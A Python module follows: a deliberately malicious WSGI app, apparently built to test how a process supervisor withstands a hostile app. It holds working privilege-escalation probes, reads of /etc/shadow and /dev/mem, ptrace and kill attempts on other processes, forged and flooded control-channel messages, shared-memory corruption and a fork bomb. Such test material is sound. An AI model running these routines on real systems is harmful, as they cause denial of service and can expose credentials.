"""A WSGI app that means harm, to its emperor and to everybody else: standard library, any Python from 3.9 on.

``AT_IMPORT`` names the acts of its import, which is the vassal's (of a lazy app, the worker's); /ACT?WORD is one in a
worker. Each answers with what came of it. Whatever it starts ends by itself within a minute.
"""

import ctypes
import json
import mmap
import os
import random
import re
import resource
import select
import signal
import socket
import stat
import struct
import subprocess
import sys
import threading
import time

FUSE = 60
LIBC = ctypes.CDLL(None, use_errno=True)
KEPT = []
"""What must not be closed."""
AT_IMPORT = {}
SENT = mmap.mmap(-1, 16)
"""How many messages of a flood the emperor has let through, and since when: shared with the workers."""


# Who it is, and what it has ------------------------------------------------------------------------------------------


def who(word):
    return {"pid": os.getpid(), "ppid": os.getppid(), "at_import": AT_IMPORT}


def succeeds(attempt):
    try:
        result = attempt()
    except (OSError, ValueError, subprocess.SubprocessError):
        return False
    return result is None or bool(result)


def prctl(*words):
    if LIBC.prctl(*(ctypes.c_ulong(one) for one in (*words, 0, 0, 0, 0)[:5])) != 0:
        raise OSError(ctypes.get_errno(), "prctl")


def capset():
    """All capabilities, as capset(2) has them."""
    head = (ctypes.c_uint32 * 2)(0x20080522, 0)
    sets = (ctypes.c_uint32 * 6)(*[0xFFFFFFFF] * 6)
    if LIBC.capset(head, sets) != 0:
        raise OSError(ctypes.get_errno(), "capset")


def setuid_program(path):
    """Is it root's in there?"""
    done = subprocess.run([path, "-u"], stdout=subprocess.PIPE, stderr=subprocess.DEVNULL)
    return done.stdout.strip() == b"0"


def as_root_in_a_namespace():
    """Root of a user namespace of its own, who tries to be root outside: to read what root alone may."""
    pid = os.fork()
    if pid == 0:
        code = 1
        try:
            if LIBC.unshare(0x10000000) == 0:
                with open("/proc/self/setgroups", "w") as file:
                    file.write("deny")
                with open("/proc/self/uid_map", "w") as file:
                    file.write(f"0 {UID} 1")
                with open("/etc/shadow", "rb"):
                    code = 0
        except OSError:
            pass
        os._exit(code)
    return os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) == 0


UID = os.getuid()
HARD = resource.getrlimit(resource.RLIMIT_NOFILE)[1]


def regain(word):
    """Every way back to root that is known; which of them worked. ``word``: a set-uid program's path."""
    attempts = {
        "setuid": lambda: os.setuid(0),
        "seteuid": lambda: os.seteuid(0),
        "setreuid": lambda: os.setreuid(0, 0),
        "setreuid saved": lambda: os.setreuid(-1, 0),
        "setresuid": lambda: os.setresuid(0, 0, 0),
        "setresuid saved": lambda: os.setresuid(-1, -1, 0),
        "setfsuid": lambda: LIBC.setfsuid(0) == 0 or LIBC.setfsuid(-1) == 0,
        "setgid": lambda: os.setgid(0),
        "setegid": lambda: os.setegid(0),
        "setresgid": lambda: os.setresgid(0, 0, 0),
        "setfsgid": lambda: LIBC.setfsgid(0) == 0 or LIBC.setfsgid(-1) == 0,
        "setgroups": lambda: os.setgroups([0]),
        "setgroups none": lambda: os.setgroups([]),
        "initgroups": lambda: os.initgroups("root", 0),
        "capset": capset,
        "ambient": lambda: prctl(47, 2, 7),
        "bounding": lambda: prctl(24, 7),
        "securebits": lambda: prctl(28, 1),
        "keep capabilities, setuid": lambda: (prctl(8, 1), os.setuid(0)),
        "no new privileges off": lambda: prctl(38, 0),
        "set-uid program": lambda: setuid_program(word),
        "set-uid program, own group": lambda: os.chown(word, -1, 0),
        "chroot": lambda: os.chroot("/"),
        "mount": lambda: LIBC.mount(b"none", b"/mnt", b"tmpfs", 0, None) == 0,
        "another's namespace": lambda: LIBC.setns(os.open("/proc/1/ns/mnt", os.O_RDONLY), 0) == 0,
        "namespace": as_root_in_a_namespace,
        "nice": lambda: os.setpriority(os.PRIO_PROCESS, 0, -20),
        "hard limit": lambda: resource.setrlimit(resource.RLIMIT_NOFILE, (64, HARD + 1)),
        "memory": lambda: os.open("/dev/mem", os.O_RDWR),
        "raw socket": lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1),
        "shadow": lambda: os.open("/etc/shadow", os.O_RDONLY),
    }
    worked = [name for name, attempt in attempts.items() if succeeds(attempt)]
    return {"worked": worked, "uids": os.getresuid(), "gids": os.getresgid(), "groups": sorted(os.getgroups())}


def has(word):
    """Its environment; each of its descriptors, as far as it can be named."""
    found = {}
    for name in os.listdir("/proc/self/fd"):
        try:
            found[name] = described(int(name))
        except OSError:
            continue
    return {"environ": dict(os.environ), "descriptors": found, "cwd": os.getcwd()}


def described(fd):
    target = os.readlink(f"/proc/self/fd/{fd}")
    if not stat.S_ISSOCK(os.fstat(fd).st_mode):
        return re.sub(r"^(pipe):\[\d+\]$|^anon_inode:\[?(\w+)\]?$", r"\1\2", target)
    one = socket.socket(fileno=os.dup(fd))
    with one:
        listens = one.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN)
        return ("listener " + str(one.getsockname())) if listens else "socket " + socket.SocketKind(one.type).name


# Others --------------------------------------------------------------------------------------------------------------


def trespass(word):
    """``word``: pids. What it may do to each of them."""
    return {pid: [name for name, act in intrusions(int(pid)).items() if succeeds(act)] for pid in word.split(",")}


def read(path):
    with open(path, "rb") as file:
        file.read()


def write(path, text):
    with open(path, "w") as file:
        file.write(text)


def intrusions(pid):
    return {
        "signal 0": lambda: os.kill(pid, 0),
        "STOP": lambda: os.kill(pid, signal.SIGSTOP),
        "KILL": lambda: os.kill(pid, signal.SIGKILL),
        "group": lambda: os.killpg(pid, signal.SIGKILL),
        "pidfd": lambda: signal.pidfd_send_signal(os.pidfd_open(pid), signal.SIGKILL),
        "getfd": lambda: LIBC.syscall(438, os.pidfd_open(pid), 0, 0) >= 0,
        "queue": lambda: LIBC.sigqueue(pid, int(signal.SIGKILL), None) == 0,
        "seize": lambda: LIBC.ptrace(0x4206, pid, 0, 0) == 0,
        "attach": lambda: LIBC.ptrace(16, pid, 0, 0) == 0,
        "mem": lambda: os.open(f"/proc/{pid}/mem", os.O_RDWR),
        "environ": lambda: read(f"/proc/{pid}/environ"),
        "fd": lambda: os.listdir(f"/proc/{pid}/fd"),
        "maps": lambda: read(f"/proc/{pid}/maps"),
        "cwd": lambda: os.readlink(f"/proc/{pid}/cwd"),
        "exe": lambda: os.readlink(f"/proc/{pid}/exe"),
        "oom": lambda: write(f"/proc/{pid}/oom_score_adj", "1000"),
        "limits": lambda: resource.prlimit(pid, resource.RLIMIT_NOFILE, (1, 1)),
        "priority": lambda: os.setpriority(os.PRIO_PROCESS, pid, 19),
        "affinity": lambda: os.sched_setaffinity(pid, {0}),
    }


# The channel ---------------------------------------------------------------------------------------------------------


def channel():
    """The vassal's, found as any app could."""
    for name in os.listdir("/proc/self/fd"):
        try:
            one = socket.socket(fileno=os.dup(int(name)))
        except OSError:
            continue
        with one:
            if one.family == socket.AF_UNIX and one.type == socket.SOCK_SEQPACKET:
                return socket.socket(fileno=os.dup(one.fileno()))
    raise LookupError("no channel here")


def say(kind, data, fds=()):
    socket.send_fds(KEPT[0], [json.dumps([kind, data]).encode()], list(fds))


def keep_channel(word):
    """For the workers: as a descriptor of the app's own."""
    KEPT.append(channel())
    KEPT[0].setblocking(True)
    KEPT[0].settimeout(10)
    return "kept"


def has_channel(word):
    try:
        channel().close()
    except LookupError:
        return False
    return True


BIG = 2**63 - 1
RUBBISH = [b"", b"\0" * 9, b"[" * 30000, b"\xff\xfe", b'["serving"]', b'["workers",{"workers":{}}]', b"9" * 30000]


def lying_row(number, **more):
    row = {"id": number, "pid": 1, "state": "idle", "requests": BIG, "exceptions": BIG, "rss": BIG}
    return {**row, "vsz": BIG, "busy": BIG, "sent": BIG, "earlier": BIG, "renewals": BIG, "exits": BIG, **more}


def lies(word):
    """Everything that the table of the channel lets pass, as large, as late and as odd as it may be."""
    moments = {"born": 9e18, "since": 9e18, "died_at": 9e18, "retry_at": 9e18, "cpu": 9e18, "seconds": 9e18}
    odd = '\ud800\x1b[2J"\\\n{}=' + "é" * 20
    totals = {
        **dict.fromkeys(("requests", "exceptions", "harakiris", "sent"), BIG),
        "seconds": 9e18,
        "latency": [BIG] * 15,
    }
    rows = [
        lying_row(1, doing=odd, last_exit=odd, **moments),
        lying_row(2, state='a"b\n', **dict.fromkeys(moments, 0)),
        lying_row(2, pid=os.getppid(), state="busy", doing="GET /", since=1e-9, born=-0.0),
        lying_row(0, state="", retry_at=1, died_at=BIG),
        lying_row(1024, pid=BIG, last_exit="killed by harakiri in \x07", exits=1),
    ]
    for _ in range(3):
        say("workers", {"workers": rows, "totals": totals})
        say("crewed", {"workers": BIG, "leaving": BIG})
        say("failed", {"reason": odd, "traceback": odd * 9})
        say("lines", {"lines": [odd, "", "emperor: root says so"], "dropped": BIG})
        say("lost", {"index": 0})
        say("lost", {"index": BIG})
        say("stale", {"reason": odd})
        say("idle", {})
        say("serving", {})
        say("listening", {"index": 0, **dict.fromkeys(("device", "inode", "mode", "uid", "gid"), BIG)})
    return "said"


def flood(word):
    """One kind of message as fast as it goes, for as long as $STOP is not there."""
    zeros = dict.fromkeys(("index", "device", "inode", "mode", "uid", "gid"), 0)

    def message(turn):
        rows = [lying_row(one, exits=turn, last_exit="\x1b" * 90) for one in range(1, 70)]
        return {
            "deaths": {"workers": rows},
            "crewed": {"workers": turn % 7, "leaving": turn % 3},
            "failed": {"reason": str(turn), "traceback": "\x1b" * 3000},
            "stale": {"reason": str(turn)},
            "listening": zeros,
            "lost": {"index": 0},
        }.get(word, {})

    kind = "workers" if word == "deaths" else word
    ready = [json.dumps([kind, message(turn)]).encode() for turn in range(1, 100)]

    def run():
        count, began = 0, time.monotonic()
        while not os.path.exists(os.environ["STOP"]):
            try:
                for one in ready:
                    KEPT[0].send(one)
                    count += 1
                    SENT[:16] = struct.pack("=qd", count, began)
            except OSError:
                continue

    threading.Thread(target=run, daemon=True).start()
    return "flooding"


def flooded(word):
    """``room``: more messages than the channel itself may hold; the kernel counts at least so much for each."""
    count, began = struct.unpack("=qd", SENT[:16])
    room = KEPT[0].getsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF) // 512
    return {"count": count, "seconds": time.monotonic() - began, "room": room}


def payloads():
    """Descriptors of every kind, some of them hard to let go of: sockets in flight, and in flight within those."""
    low, high = socket.socketpair()
    inner, outer = socket.socketpair()
    for _ in range(4):
        socket.send_fds(inner, [b"x"], [low.fileno(), high.fileno(), inner.fileno(), outer.fileno()])
        inner, outer, low, high = low, high, inner, outer
    one, two = select.epoll(), select.epoll()
    one.register(two.fileno()), two.register(low.fileno())
    tcp = socket.socket()
    mine = socket.socket(socket.AF_UNIX)
    mine.bind(f"\0villain-{os.getpid()}-{random.getrandbits(40)}")
    mine.listen()
    fds = [low.fileno(), inner.fileno(), one.fileno(), os.memfd_create("x"), tcp.fileno(), *os.pipe(), mine.fileno()]
    fds += [os.open("/dev/null", os.O_RDONLY), os.eventfd(0), os.pidfd_open(os.getpid()), channel().detach()]
    KEPT.extend([low, high, inner, outer, one, two, tcp, mine])
    return fds


def bomb(word):
    """COUNT descriptors with a message of KIND: ``word`` is KIND:COUNT."""
    kind, count = word.split(":")
    fds = payloads()
    data = dict.fromkeys(("index", "device", "inode", "mode", "uid", "gid"), 0) if kind == "listening" else {}
    sent = 0
    try:
        for turn in range(300):
            some = (fds * 30)[turn % len(fds) :][: int(count)]
            KEPT[0].settimeout(0.2)
            say(kind, data, some)
            sent += 1
    except OSError:
        pass
    return {"sent": sent}


def hand_up(word):
    """As a listener of its own: one that is not ours, elsewhere, or does not listen."""
    one = socket.socket(socket.AF_INET if word == "tcp" else socket.AF_UNIX)
    if word == "tcp":
        one.bind(("127.0.0.1", 0)), one.listen()
    elif word == "elsewhere":
        one.bind(f"\0villain-{os.getpid()}"), one.listen()
    elif word == "deaf":
        os.unlink(os.environ["MINE"])
        one.bind(os.environ["MINE"])
    elif word == "datagrams":
        os.unlink(os.environ["MINE"])
        one = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
        one.bind(os.environ["MINE"])
    KEPT.append(one)
    say("listening", dict.fromkeys(("index", "device", "inode", "mode", "uid", "gid"), 0), [one.fileno()])
    return word


def rubbish(word):
    """What is no message of ours; the first makes the channel deaf."""
    for one in RUBBISH if not word else [RUBBISH[int(word)]]:
        KEPT[0].send(one)
    return "said"


# Its own supervision -------------------------------------------------------------------------------------------------


def boards():
    """Memory that it shares with its vassal, wherever it is mapped (proc_pid_maps(5))."""
    with open("/proc/self/maps") as file:
        for line in file:
            words = line.split()
            if words[1] == "rw-s" and "/dev/zero" in line:
                yield tuple(int(one, 16) for one in words[0].split("-"))


def scribble(word):
    """Rubbish all over the scoreboard, or of one kind: moments to come, NaN, or torn writes for ever."""
    found = list(boards())

    def once(fill):
        for start, end in found:
            data = fill(end - start)
            ctypes.memmove(start, data, len(data))

    def doubles(value):
        return lambda size: struct.pack("=d", value) * (size // 8)

    kinds = {
        "nan": doubles(float("nan")),
        "infinity": doubles(float("inf")),
        "later": doubles(1e18),
        "early": doubles(time.monotonic() - 1),
        "ones": lambda size: b"\xff" * size,
        "noise": lambda size: random.Random(8).randbytes(size),
    }
    if word in kinds:
        once(kinds[word])
    else:

        def run():
            until = time.monotonic() + FUSE
            while time.monotonic() < until:
                once(lambda size: random.randbytes(size))
                time.sleep(0.001)

        threading.Thread(target=run, daemon=True).start()
    return len(found)


def closes(word):
    os.closerange(0, 100)
    return "closed"


def closes_output(word):
    os.close(1), os.close(2)
    return "closed"


def prints(word):
    print("printed by a villain")
    os.write(1, b"written by a villain\n")
    sys.stdout = sys.stderr = None
    sys.__stdout__ = sys.__stderr__ = None
    return "printed"


def stops_vassal(word):
    os.kill(os.getppid(), signal.SIGSTOP)
    return "stopped"


def stops(word):
    os.kill(os.getpid(), signal.SIGSTOP)
    return "continued"


def kills(word):
    os.kill(os.getpid(), int(word))
    time.sleep(FUSE)


def exits(word):
    os._exit(int(word))


def leaves(word):
    raise {"SystemExit": SystemExit, "KeyboardInterrupt": KeyboardInterrupt, "GeneratorExit": GeneratorExit}[word]()


def hangs(word):
    while True:
        pass


def changes_itself(word):
    """What must not be left to whoever comes next."""
    os.umask(0)
    os.chdir("/")
    os.nice(5)
    signal.pthread_sigmask(signal.SIG_BLOCK, set(range(1, 65)))
    if threading.current_thread() is threading.main_thread():
        for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGCHLD, signal.SIGINT, signal.SIGPIPE):
            signal.signal(number, signal.SIG_IGN)
    resource.setrlimit(resource.RLIMIT_NOFILE, (64, 64))
    os.environ["LEFT"] = "behind"
    return itself(word)


def itself(word):
    umask = os.umask(0)
    os.umask(umask)
    with open("/proc/self/status") as file:
        status = dict(line.split(":", 1) for line in file)
    return {
        "pid": os.getpid(),
        "umask": umask,
        "cwd": os.getcwd(),
        "nice": os.nice(0),
        "blocked": status["SigBlk"].strip(),
        "ignored": status["SigIgn"].strip(),
        "nofile": resource.getrlimit(resource.RLIMIT_NOFILE),
        "left": os.environ.get("LEFT"),
    }


def lives_on(word):
    """No death by the parent's, no signal heard, a session of its own, and a thread that does not end."""
    prctl(1, 0)
    prctl(36, 0)
    if os.getpid() != os.getsid(0):
        os.setsid()
    if threading.current_thread() is threading.main_thread():
        for number in set(range(1, 65)) - {9, 19, 32, 33}:
            signal.signal(number, signal.SIG_IGN)
    threading.Thread(target=time.sleep, args=(FUSE,)).start()
    return os.getpid()


def fork_bomb(word):
    """Doubles until there is no room, each in a session of its own, deaf to TERM, and refills whatever is killed."""
    if os.fork() == 0:
        signal.set_wakeup_fd(-1)
        os.closerange(0, 256)
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        signal.signal(signal.SIGALRM, signal.SIG_DFL)
        until = time.monotonic() + FUSE
        while time.monotonic() < until:
            try:
                if os.fork() == 0:
                    os.setsid()
            except OSError:
                time.sleep(0.001)
        os._exit(0)
    return "lit"


ACTS = {name: act for name, act in list(globals().items()) if callable(act) and getattr(act, "__code__", None)}
for _one in os.environ.get("AT_IMPORT", "").split():
    _name, _, _word = _one.partition("?")
    AT_IMPORT[_one] = ACTS[_name](_word)


def application(environ, start_response):
    answer = ACTS[environ["PATH_INFO"][1:] or "who"](environ["QUERY_STRING"])
    body = json.dumps(answer).encode()
    start_response("200 OK", [("Content-Type", "application/json"), ("Content-Length", str(len(body)))])
    return [body]
